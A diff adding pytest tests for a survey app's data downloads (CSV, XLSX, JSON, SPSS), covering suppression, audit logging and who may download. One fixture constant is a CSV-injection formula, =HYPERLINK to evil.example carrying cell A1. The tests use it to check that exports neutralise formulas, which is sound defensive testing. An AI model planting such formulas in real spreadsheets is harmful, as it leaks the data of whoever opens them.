@@ -1,0 +1,592 @@
+"""Downloads: every table in every format, read back and checked against the database and the
+persisted (suppressed) results; CSV injection; streaming; the audit log; who may download."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import math
+import uuid
+from pathlib import Path
+
+import numpy as np
+import pytest
+from sqlalchemy import func, insert, select, text
+
+from survey_app.extensions import db
+from survey_app.models import Answer, AuditEvent, Comment, Response, Wave
+from survey_app.services import exports, results
+from survey_app.services.auth import ensure_user
+from survey_app.services.instruments import frozen_instrument
+from survey_app.services.waves import close_wave
+from tests.conftest import csrf_token
+
+PASSWORD = "downloads test passphrase"
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+SMALL_CELL_COMMENT = "Only two of us work here, so you can tell who wrote this."
+
+
+# ----------------------------------------------------------------------------- a history
+
+
+def insert_responses(
+    wave: Wave, cells: list[tuple[str, str | None, str | None, int]], *, seed: int
+):
+    """Insert ``n`` responses for each (side, area key, role, n), with answers drawn from a
+    seeded generator: some "don't know", some skipped, as real data has.
+
+    Returns the response ids in insertion order.
+    """
+    rng = np.random.default_rng(seed)
+    instrument = frozen_instrument(wave.instrument_version)
+    areas = {a.key: a.id for a in wave.relationship.service_areas}
+    responses, answers, ids = [], [], []
+    for side, area, role, n in cells:
+        for _ in range(n):
+            rid = uuid.UUID(bytes=rng.bytes(16), version=4)
+            ids.append(rid)
+            responses.append(
+                {
+                    "id": rid,
+                    "wave_id": wave.id,
+                    "instrument_version_id": wave.instrument_version_id,
+                    "side": side,
+                    "service_area_id": areas[area] if area else None,
+                    "role_level": role,
+                }
+            )
+            for item_no, item in enumerate(instrument.items):
+                draw = rng.random()
+                if draw < 0.05:
+                    continue  # skipped
+                if item.dont_know and draw < 0.12:
+                    answers.append({"response_id": rid, "item_no": item_no, "value": None})
+                else:
+                    value = int(rng.integers(1, instrument.scale.points + 1))
+                    answers.append({"response_id": rid, "item_no": item_no, "value": value})
+    db.session.execute(insert(Response), responses)
+    db.session.execute(insert(Answer), answers)
+    return ids
+
+
+def make_history(factory, *, labels=("2024-Q1", "2024-Q2")):
+    """A relationship with closed waves of 26 responses each (results computed on closing) and
+    an open wave. In the first wave, one response in a 12-person cell left a formula-like
+    comment, and one in a 2-person cell left a comment that must not be downloaded."""
+    rel = factory.relationship()
+    for i, label in enumerate(labels):
+        wave = factory.wave(rel, label, state="open")
+        ids = insert_responses(
+            wave,
+            [
+                ("client", "core-ict", "staff", 12),
+                ("client", "contact-centre", "manager", 6),
+                ("supplier", "core-ict", "staff", 6),
+                ("supplier", "contact-centre", "executive", 2),
+            ],
+            # Seeds whose answers give no two areas exactly equal means: with such data the
+            # scoring service stores an ICC(2) of -inf, which PostgreSQL's JSON refuses
+            # (reported to the scoring service's owner).
+            seed=102 + i,
+        )
+        if i == 0:
+            db.session.execute(
+                insert(Comment),
+                [
+                    {"response_id": ids[0], "question_key": "comment_improve", "text": HYPERLINK},
+                    {
+                        "response_id": ids[1],
+                        "question_key": "comment_keep",
+                        "text": "-2 meetings a week",
+                    },
+                    {
+                        "response_id": ids[-1],
+                        "question_key": "comment_improve",
+                        "text": SMALL_CELL_COMMENT,
+                    },
+                ],
+            )
+        close_wave(wave)
+        db.session.commit()
+    factory.wave(rel, "2099-Q1", state="open")
+    db.session.refresh(rel)  # loaded, so its id and name stay readable after a request
+    return rel
+
+
+@pytest.fixture
+def history(factory):
+    return make_history(factory)
+
+
+def download_bytes(table: str, fmt: str, relationship, wave: str | None = None) -> bytes:
+    rel_id = relationship if isinstance(relationship, int) else relationship.id
+    prepared = exports.prepare_download(table, fmt, exports.export_scope(rel_id, wave))
+    return b"".join(prepared.chunks)
+
+
+def finite_or_none(value):
+    return None if isinstance(value, float) and not math.isfinite(value) else value
+
+
+def padded(row, width: int) -> list:
+    """A read-only worksheet row, padded to the header's width (trailing blanks are dropped)."""
+    return [*row, *([None] * (width - len(row)))]
+
+
+def read_csv(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte-order mark"
+    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
+
+
+def stored_responses(relationship) -> dict[str, dict[str, object]]:
+    """What the database holds, keyed by response id: the row a download must show."""
+    wave_ids = [w.id for w in exports.closed_waves(relationship)]
+    out = {}
+    items_of = {}
+    for response in db.session.scalars(select(Response).where(Response.wave_id.in_(wave_ids))):
+        version = response.answers and None
+        inst = items_of.setdefault(
+            response.instrument_version_id,
+            frozen_instrument(db.session.get(Wave, response.wave_id).instrument_version),
+        )
+        row = {item.key: "" for item in inst.items}
+        for answer in response.answers:
+            key = inst.items[answer.item_no].key
+            row[key] = "dk" if answer.value is None else str(answer.value)
+        row["wave"] = db.session.get(Wave, response.wave_id).label
+        row["side"] = response.side
+        row["role_level"] = response.role_level or ""
+        del version
+        out[str(response.id)] = row
+    return out
+
+
+# ----------------------------------------------------------------------------- responses
+
+
+def test_the_responses_csv_holds_every_response_and_answer_as_stored(history):
+    data = download_bytes("responses", "csv", history)
+    assert b"\r\n" in data and data.count(b"\r\n") == data.count(b"\n")
+    header, *rows = read_csv(data)
+    assert header[:7] == [
+        "response_id", "wave", "side", "service_area", "role_level", "instrument", "instrument_version",
+    ]  # fmt: skip
+    instrument = frozen_instrument(exports.closed_waves(history)[0].instrument_version)
+    assert header[7 : 7 + len(instrument.items)] == [item.key for item in instrument.items]
+    assert header[7 + len(instrument.items) :] == ["comment_improve", "comment_keep"]
+    stored = stored_responses(history)
+    assert len(rows) == len(stored) == 52
+    for row in rows:
+        record = dict(zip(header, row, strict=True))
+        expected = stored[record["response_id"]]
+        for key, value in expected.items():
+            assert record[key] == value, (record["response_id"], key)
+        assert record["instrument"] == "partnership-health" and record["instrument_version"] == "1"
+    assert [r[1] for r in rows] == sorted(r[1] for r in rows), "rows come wave by wave"
+    cells = [c for r in rows for c in r[7 : 7 + len(instrument.items)]]
+    assert "dk" in cells and "" in cells, "the history has don't-knows and skipped items"
+
+
+def test_comments_are_given_only_for_cells_of_at_least_the_comment_threshold(history, app):
+    header, *rows = read_csv(download_bytes("responses", "csv", history))
+    improve = header.index("comment_improve")
+    comments = [row[improve] for row in rows if row[improve]]
+    assert SMALL_CELL_COMMENT not in "".join(comments)  # its cell holds 2 responses
+    assert len(comments) == 1 and comments[0].endswith(HYPERLINK)
+    app.config["MIN_COMMENT_CELL_SIZE"] = 13  # now the 12-person cell is too small too
+    header, *rows = read_csv(download_bytes("responses", "csv", history))
+    assert not any(row[header.index("comment_improve")] for row in rows)
+
+
+def test_formula_like_text_is_neutralised_in_csv_and_xlsx_but_numbers_stay_numbers(history):
+    header, *rows = read_csv(download_bytes("responses", "csv", history))
+    improve, keep = header.index("comment_improve"), header.index("comment_keep")
+    assert [r[improve] for r in rows if r[improve]] == ["'" + HYPERLINK]
+    assert [r[keep] for r in rows if r[keep]] == ["'-2 meetings a week"]
+
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(download_bytes("responses", "xlsx", history)))
+    sheet = book["responses"]
+    values = [c.value for row in sheet.iter_rows(min_row=2) for c in row if c.value]
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert "'" + HYPERLINK in values
+    assert all(c.data_type != "f" for c in cells), "no cell is a formula"
+
+    # A negative number in a results table is a number, not neutralised text.
+    names, shown = results.output_table("gaps", history)
+    diff = names.index("difference")
+    negative = next(r for r in shown if r[diff] is not None and r[diff] < 0)
+    header, *rows = read_csv(download_bytes("gaps", "csv", history))
+    as_text = [r[header.index("difference")] for r in rows]
+    assert repr(negative[diff]) in as_text and not any(v.startswith("'") for v in as_text)
+    gaps = load_workbook(io.BytesIO(download_bytes("gaps", "xlsx", history)))["gaps"]
+    column = [c.value for c in next(gaps.iter_cols(min_col=diff + 1, max_col=diff + 1, min_row=2))]
+    # openpyxl writes 16 significant digits (Excel itself keeps 15).
+    assert any(v is not None and v == pytest.approx(negative[diff], rel=1e-15) for v in column)
+    assert all(v is None or isinstance(v, float) for v in column)
+
+
+def test_the_responses_workbook_matches_the_csv_with_numbers_as_numbers_and_a_codebook(history):
+    from openpyxl import load_workbook
+
+    header, *rows = read_csv(download_bytes("responses", "csv", history))
+    book = load_workbook(io.BytesIO(download_bytes("responses", "xlsx", history)), read_only=True)
+    assert book.sheetnames == ["responses", "codebook"]
+    sheet = [padded(r, len(header)) for r in book["responses"].iter_rows(values_only=True)]
+    assert sheet[0] == header
+    for csv_row, xlsx_row in zip(rows, sheet[1:], strict=True):
+        for value, cell in zip(csv_row, xlsx_row, strict=True):
+            if value in ("", None):
+                assert cell is None
+            elif value.isdigit():
+                assert cell == int(value) and isinstance(cell, int)
+            else:
+                assert cell == value
+    codebook = [list(r) for r in book["codebook"].iter_rows(values_only=True)]
+    assert codebook[0] == ["table", "column", "type", "label", "description", "value_labels"]
+    assert [r[1] for r in codebook[1:]] == header
+    sp3 = next(r for r in codebook if r[1] == "sp3")
+    assert sp3[2] == "answer" and "dk = Don't know" in sp3[5] and "1 = Strongly disagree" in sp3[5]
+
+
+def test_the_responses_json_is_one_object_with_described_columns_and_rows(history):
+    header, *rows = read_csv(download_bytes("responses", "csv", history))
+    doc = json.loads(download_bytes("responses", "json", history))
+    assert doc["table"] == "responses" and doc["waves"] == ["2024-Q1", "2024-Q2"]
+    assert [c["name"] for c in doc["columns"]] == header
+    assert all(c["description"] for c in doc["columns"])
+    for csv_row, json_row in zip(rows, doc["rows"], strict=True):
+        assert [("" if v is None else str(v)) for v in json_row] == [
+            v[1:] if v.startswith("'") else v for v in csv_row
+        ]  # JSON carries text unchanged (no spreadsheet runs it)
+
+
+def test_the_spss_file_has_variable_and_value_labels_and_declares_dont_know_missing(
+    history, tmp_path
+):
+    import pyreadstat
+
+    path = tmp_path / "responses.sav"
+    path.write_bytes(download_bytes("responses", "sav", history))
+    frame, meta = pyreadstat.read_sav(str(path), user_missing=True)
+    header, *rows = read_csv(download_bytes("responses", "csv", history))
+    assert list(frame.columns) == header
+    labels = meta.column_names_to_labels
+    # The client's wording, with the supplier's name where the statement names the partner.
+    sp1 = frozen_instrument(exports.closed_waves(history)[0].instrument_version).item("sp1")
+    assert labels["sp1"] == sp1.wording.client.replace("{partner}", "Test Supplier")
+    assert "Test Supplier" in labels["sp1"]
+    assert labels["response_id"] == "Response key"
+    assert meta.variable_value_labels["sp3"][9.0] == "Don't know"
+    assert meta.variable_value_labels["sp3"][1.0] == "Strongly disagree"
+    assert meta.missing_ranges["sp3"] == [{"lo": 9.0, "hi": 9.0}]
+    assert "sp1" not in meta.missing_ranges  # sp1 offers no "don't know"
+    assert meta.variable_measure["sp1"] == "ordinal"
+    column = header.index("sp3")
+    for row, value in zip(rows, frame["sp3"], strict=True):
+        if row[column] == "":
+            assert value != value  # system-missing (NaN)
+        else:
+            assert value == (9.0 if row[column] == "dk" else float(row[column]))
+    # Read as SPSS would analyse it: "don't know" is missing, not a 9 on the scale.
+    plain, _ = pyreadstat.read_sav(str(path))
+    assert plain["sp3"].max() <= 5
+
+
+# ----------------------------------------------------------------------------- results tables
+
+
+@pytest.mark.parametrize("table", exports.RESULT_TABLES)
+def test_each_results_table_downloads_as_persisted_with_suppression(history, table):
+    from openpyxl import load_workbook
+
+    names, shown = results.output_table(
+        table, history, None if table == "trends" else exports.closed_waves(history)
+    )
+    assert shown, f"the history has {table}"
+
+    header, *rows = read_csv(download_bytes(table, "csv", history))
+    assert header == names
+    assert len(rows) == len(shown)
+    for row, expected in zip(rows, shown, strict=True):
+        for value, want in zip(row, expected, strict=True):
+            if want is None or (isinstance(want, float) and not math.isfinite(want)):
+                assert value == ""  # blank; so are ±inf and NaN (no spreadsheet reads them)
+            elif isinstance(want, bool):
+                assert value == ("true" if want else "false")
+            elif isinstance(want, float):
+                assert float(value) == want
+            else:
+                assert value.lstrip("'") == str(want)
+
+    doc = json.loads(download_bytes(table, "json", history))
+    assert [c["name"] for c in doc["columns"]] == names
+    assert doc["rows"] == [[finite_or_none(v) for v in r] for r in shown]
+
+    book = load_workbook(io.BytesIO(download_bytes(table, "xlsx", history)), read_only=True)
+    assert book.sheetnames == [table, "codebook"]
+    sheet = [padded(r, len(names)) for r in book[table].iter_rows(values_only=True)]
+    assert sheet[0] == names
+    for row, expected in zip(sheet[1:], shown, strict=True):
+        for value, want in zip(row, expected, strict=True):
+            if isinstance(want, str):
+                assert value.lstrip("'") == want
+            elif isinstance(want, float) and not math.isfinite(want):
+                assert value is None
+            elif isinstance(want, float) and not isinstance(want, bool):
+                assert value == pytest.approx(want, rel=1e-15)  # 16 significant digits
+            else:
+                assert value == want
+
+
+def test_suppressed_cells_are_blank_and_say_why(history):
+    names, shown = results.output_table("scores", history, exports.closed_waves(history))
+    header, *rows = read_csv(download_bytes("scores", "csv", history))
+    suppressed = [r for r in rows if r[header.index("suppressed")]]
+    assert suppressed, "the 2-person supplier cell is suppressed"
+    for row in suppressed:
+        assert row[header.index("mean")] == "" and row[header.index("n")] == ""
+    assert not any(
+        r[header.index("side")] == "supplier" and r[header.index("area")] == "contact-centre"
+        and r[header.index("mean")] for r in rows
+    )  # fmt: skip
+
+
+def test_one_wave_downloads_only_that_waves_rows_and_trends_cover_every_wave(history):
+    header, *rows = read_csv(download_bytes("scores", "csv", history, "2024-Q2"))
+    assert {r[0] for r in rows} == {"2024-Q2"}
+    header, *rows = read_csv(download_bytes("responses", "csv", history, "2024-Q1"))
+    assert {r[1] for r in rows} == {"2024-Q1"} and len(rows) == 26
+    prepared = exports.prepare_download("trends", "csv", exports.export_scope(history, "2024-Q1"))
+    assert prepared.filename == "relhealth-trends-all-waves.csv"
+
+
+def test_the_all_workbook_has_a_sheet_per_results_table_and_the_codebook(history):
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(download_bytes("all", "xlsx", history)), read_only=True)
+    assert book.sheetnames == [*exports.RESULT_TABLES, "codebook"]
+    described = {(r[0], r[1]) for r in book["codebook"].iter_rows(min_row=2, values_only=True)}
+    for table in exports.RESULT_TABLES:
+        header = next(book[table].iter_rows(values_only=True))
+        assert {(table, name) for name in header} <= described
+
+
+def test_the_codebook_describes_every_column_of_every_table(history):
+    header, *rows = read_csv(download_bytes("codebook", "csv", history))
+    assert header == ["table", "column", "type", "label", "description", "value_labels"]
+    described = {(r[0], r[1]): r for r in rows}
+    scope = exports.export_scope(history.id)
+    for table in (*exports.RESULT_TABLES, "responses"):
+        for column in exports.build_tables(table, scope)[0].columns:
+            entry = described[(table, column.name)]
+            assert entry[4] and entry[4] != exports.UNDESCRIBED, (table, column.name)
+    assert described[("scores", "band")][5].startswith("strength = ")
+    assert described[("responses", "role_level")][5] == (
+        "executive = Executive or director; manager = Manager; staff = Staff"
+    )
+
+
+def test_a_table_longer_than_a_sheet_continues_on_another_sheet(monkeypatch, tmp_path):
+    from openpyxl import load_workbook
+
+    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 4)
+    table = exports.Table(
+        "scores", (exports.Column("n", "integer", "a count"),), [[i] for i in range(7)]
+    )
+    exports.write_xlsx([table], tmp_path / "long.xlsx")
+    book = load_workbook(tmp_path / "long.xlsx", read_only=True)
+    assert book.sheetnames == ["scores", "scores_2", "scores_3", "codebook"]
+    values = [
+        r[0]
+        for name in book.sheetnames[:3]
+        for r in book[name].iter_rows(min_row=2, values_only=True)
+    ]
+    assert values == list(range(7))
+
+
+def test_only_closed_waves_can_be_downloaded(history):
+    from survey_app.services import ServiceError
+
+    with pytest.raises(ServiceError, match="2099-Q1.*open: only closed waves"):
+        exports.export_scope(history, "2099-Q1")
+    with pytest.raises(ServiceError, match="no wave"):
+        exports.export_scope(history, "1999-Q1")
+    with pytest.raises(ServiceError, match="not offered as sav"):
+        exports.prepare_download("scores", "sav", exports.export_scope(history))
+
+
+def test_spss_names_are_valid_and_unique():
+    assert exports.spss_names(["sp1", "1st", "with space", "AND", "a-b", "sp1"]) == [
+        "sp1", "v1st", "with_space", "AND_", "a_b", "sp1_2",
+    ]  # fmt: skip
+    assert exports.dont_know_code(5) == 9 and exports.dont_know_code(10) == 99
+
+
+# ----------------------------------------------------------------------------- the web
+
+
+def signed_in_client(app, role: str):
+    client = app.test_client()
+    email = f"{role}@exchange.example"
+    ensure_user(email, f"Exchange {role}", role, PASSWORD)
+    db.session.commit()
+    page = client.get("/sign-in")
+    answer = client.post(
+        "/sign-in",
+        data={
+            "csrf_token": csrf_token(page.get_data(as_text=True)),
+            "email": email,
+            "password": PASSWORD,
+        },
+    )
+    assert answer.status_code == 302
+    return client
+
+
+def test_the_downloads_page_lists_each_table_and_format_for_closed_waves(app, history):
+    rel_id, rel_name = history.id, history.name
+    client = signed_in_client(app, "reviewer")
+    index = client.get("/downloads/")
+    assert index.status_code == 200 and rel_name in index.get_data(as_text=True)
+    page = client.get(f"/downloads/{rel_id}/")
+    html = page.get_data(as_text=True)
+    assert page.status_code == 200
+    for table in exports.TABLES:
+        assert f"/downloads/{rel_id}/{table}.csv" in html
+    assert f"/downloads/{rel_id}/responses.sav" in html
+    assert f"/downloads/{rel_id}/all.xlsx" in html
+    assert "2099-Q1" not in html, "an open wave is not offered"
+    one = client.get(f"/downloads/{rel_id}/?wave=2024-Q1").get_data(as_text=True)
+    assert f"/downloads/{rel_id}/scores.csv?wave=2024-Q1" in one
+    bad = client.get(f"/downloads/{rel_id}/?wave=2099-Q1")
+    assert bad.status_code == 400 and "govuk-error-summary" in bad.get_data(as_text=True)
+
+
+def test_a_csv_download_streams_as_an_attachment_and_is_audited(app, history):
+    rel_id = history.id
+    client = signed_in_client(app, "reviewer")
+    response = client.get(f"/downloads/{rel_id}/scores.csv?wave=2024-Q1")
+    assert response.status_code == 200
+    assert response.is_streamed
+    assert (
+        response.headers["Content-Disposition"]
+        == 'attachment; filename="relhealth-scores-2024-Q1.csv"'
+    )
+    assert response.mimetype == "text/csv"
+    assert response.get_data() == download_bytes("scores", "csv", rel_id, "2024-Q1")
+    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "download"))
+    assert event.actor == "reviewer@exchange.example" and event.user_id is not None
+    assert event.detail == {
+        "relationship": rel_id, "table": "scores", "format": "csv", "wave": "2024-Q1",
+    }  # fmt: skip
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "json", "sav"])
+def test_every_format_downloads_over_the_web(app, history, fmt):
+    rel_id = history.id
+    client = signed_in_client(app, "admin")
+    response = client.get(f"/downloads/{rel_id}/responses.{fmt}")
+    assert response.status_code == 200
+    assert (
+        response.headers["Content-Disposition"]
+        == f'attachment; filename="relhealth-responses-all-waves.{fmt}"'
+    )
+    body = response.get_data()
+    assert len(body) > 1000
+    if fmt == "json":
+        assert len(json.loads(body)["rows"]) == 52
+
+
+def test_a_download_of_an_open_wave_or_an_unknown_table_is_not_found(app, history):
+    rel_id = history.id
+    client = signed_in_client(app, "reviewer")
+    assert client.get(f"/downloads/{rel_id}/scores.csv?wave=2099-Q1").status_code == 404
+    assert client.get(f"/downloads/{rel_id}/secrets.csv").status_code == 404
+    assert client.get(f"/downloads/{rel_id}/scores.sav").status_code == 404
+    assert (
+        db.session.scalar(
+            select(func.count()).select_from(AuditEvent).where(AuditEvent.action == "download")
+        )
+        == 0
+    )
+
+
+def test_anonymous_visitors_are_sent_to_sign_in_and_managers_may_not_download(app, history):
+    rel_id = history.id
+    url = f"/downloads/{rel_id}/responses.csv"
+    anonymous = app.test_client().get(url)
+    assert anonymous.status_code == 302 and "/sign-in" in anonymous.headers["Location"]
+    assert signed_in_client(app, "manager").get(url).status_code == 403
+    assert signed_in_client(app, "manager").get("/downloads/").status_code == 403
+    assert signed_in_client(app, "reviewer").get(url).status_code == 200
+    assert (
+        db.session.scalar(
+            select(func.count()).select_from(AuditEvent).where(AuditEvent.action == "download")
+        )
+        == 1
+    )
+
+
+# ----------------------------------------------------------------------------- the CLI
+
+
+def test_the_cli_exports_to_stdout_and_to_a_file_and_audits(runner, history, tmp_path):
+    rel_name = history.name
+    result = runner.invoke(
+        args=["export", "--table", "scores", "--format", "csv", "--wave", "2024-Q2"]
+    )
+    assert result.exit_code == 0, result.output
+    assert result.stdout_bytes == download_bytes("scores", "csv", history, "2024-Q2")
+    out = tmp_path / "r.xlsx"
+    result = runner.invoke(
+        args=["export", "--table", "responses", "--format", "xlsx", "-r", rel_name, "-o", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    assert out.read_bytes().startswith(b"PK")
+    actions = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "download")).all()
+    assert [(e.actor, e.detail["table"], e.detail["format"]) for e in actions] == [
+        ("cli", "scores", "csv"), ("cli", "responses", "xlsx"),
+    ]  # fmt: skip
+
+
+def test_a_cli_export_of_an_open_wave_fails_in_one_line_and_writes_nothing(
+    runner, history, tmp_path
+):
+    out = tmp_path / "x.csv"
+    result = runner.invoke(
+        args=["export", "--table", "scores", "--wave", "2099-Q1", "-o", str(out)]
+    )
+    assert result.exit_code == 1
+    assert (
+        result.output.strip()
+        == "Error: wave '2099-Q1' is open: only closed waves can be downloaded"
+    )
+    assert not out.exists() and not list(tmp_path.glob("*x.csv*"))
+    result = runner.invoke(args=["export", "--table", "scores", "--format", "sav"])
+    assert result.exit_code == 1 and "not offered as sav" in result.output
+
+
+# ----------------------------------------------------------------------------- helpers for imports
+
+
+def database_digest() -> str:
+    """A digest of every row of every table: equal before and after means nothing changed."""
+    digest = hashlib.sha256()
+    for table in db.metadata.sorted_tables:
+        columns = ", ".join(f'"{c.name}"' for c in table.columns)
+        order = ", ".join(f'"{c.name}"' for c in table.primary_key.columns) or columns
+        for row in db.session.execute(
+            text(f'SELECT {columns} FROM "{table.name}" ORDER BY {order}')
+        ):
+            digest.update(repr(tuple(row)).encode())
+    return digest.hexdigest()
+
+
+def write_file(tmp_path: Path, name: str, data: bytes) -> Path:
+    path = tmp_path / name
+    path.write_bytes(data)
+    return path
